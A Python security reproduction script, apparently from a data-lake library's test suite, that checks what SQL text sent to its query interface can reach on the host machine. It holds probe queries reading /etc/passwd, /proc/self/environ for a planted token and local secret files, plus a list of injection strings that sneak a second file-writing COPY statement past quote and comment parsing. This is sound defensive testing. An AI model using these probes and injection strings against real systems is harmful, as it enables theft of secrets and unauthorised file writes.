# mypy: ignore-errors
# ruff: noqa: E501
"""lake.sql: what can a text reach on the machine where it runs? (client side: CLI, notebooks, services that pass
texts on)
"""

import os
import tempfile
from pathlib import Path

import pyarrow as pa

import lakestore as ls
from tests.repro.security.lib import ROOT

os.environ["LAKESTORE_TOKEN_X"] = "s3cret-env"


d = tempfile.mkdtemp(dir=str(ROOT))
lk = ls.open(d + "/lake")
lk.create_table("shop.orders", schema=pa.schema([("id", pa.int64())])).append([{"id": 1}])
open(d + "/secret.csv", "w").write("a,b\n1,topsecret\n")


def q(label, text):
    try:
        print(f"  {label}: RUNS -> {str(lk.sql(text).to_arrow().to_pylist())[:150]}")
    except Exception as e:
        print(f"  {label}: {type(e).__name__} {str(e)[:110]}")


q("read_csv local file", f"SELECT * FROM read_csv('{d}/secret.csv')")
q("read_text /etc/passwd", "SELECT left(content, 30) c FROM read_text('/etc/passwd')")
q("environ incl. token", "SELECT contains(content::VARCHAR, 's3cret-env') leak FROM read_blob('/proc/self/environ')")
q("file name as table", f"SELECT * FROM '{d}/secret.csv'")
q("glob", "SELECT count(*) n FROM glob('/etc/*')")
q("server's own data (in-process)", f"SELECT count(*) FROM glob('{d}/lake/**')")
q("COPY TO", f"COPY (SELECT 1) TO '{d}/out.csv'")
q("ATTACH", f"ATTACH '{d}/x.db'")
q("INSTALL", "INSTALL httpfs")
q("two statements", f"SELECT 1; COPY (SELECT 1) TO '{d}/out2.csv'")
q("http autoload", "SELECT * FROM read_csv('http://127.0.0.1:9/x.csv')")
q(
    "settings readable",
    "SELECT name, value FROM duckdb_settings() WHERE name IN ('enable_external_access','autoinstall_known_extensions','lock_configuration','allow_unsigned_extensions')",
)
q("set via pragma fn", "SELECT * FROM pragma_database_list()")
q("replacement scan of python variable", "SELECT * FROM d")
q("query()", "SELECT * FROM query('SELECT 42 x')")
q("query() COPY", f"SELECT * FROM query('COPY (SELECT 1) TO ''{d}/out3.csv''')")
tries = [
    f"SELECT E'\\'; COPY (SELECT 1) TO ''{d}/p1.csv''; --'",
    f"SELECT '\\'; COPY (SELECT 1) TO '{d}/p2.csv'; --'",
    f"SELECT 1 /* /* */ ; COPY (SELECT 1) TO '{d}/p3.csv' -- */",
    f"SELECT $x$ $x$, '$x$; COPY (SELECT 1) TO ''{d}/p4.csv''; --$x$'",
    f"SELECT 1 -- \r; COPY (SELECT 1) TO '{d}/p5.csv'",
    f'SELECT "a\\" FROM (SELECT 1 AS "a\\"); COPY (SELECT 1) TO \'{d}/p6.csv\'--"',
    f"SELECT x'' \"; COPY (SELECT 1) TO '{d}/p7.csv'; --\"",
    f"DESCRIBE SELECT 1; COPY (SELECT 1) TO '{d}/p8.csv'",
    f"SUMMARIZE '{d}/secret.csv'",
    "WITH a AS MATERIALIZED (SELECT 1) SELECT * FROM a",
    f"SELECT 1 // 2; COPY (SELECT 1) TO '{d}/p9.csv'",
    "SELECT {% x %}",
    f"SELECT 1 {{# #}} ; COPY (SELECT 1) TO '{d}/p10.csv' {{# #}}",
    f"SELECT 1 {{#; COPY (SELECT 1) TO '{d}/p11.csv' --#}}",
    f"SELECT `a; COPY (SELECT 1) TO '{d}/p12.csv'; --`",
]
for i, t in enumerate(tries):
    q(f"parser differential {i}", t)
print("  files written:", sorted(p.name for p in Path(d).glob("*.csv")))
lk.close()
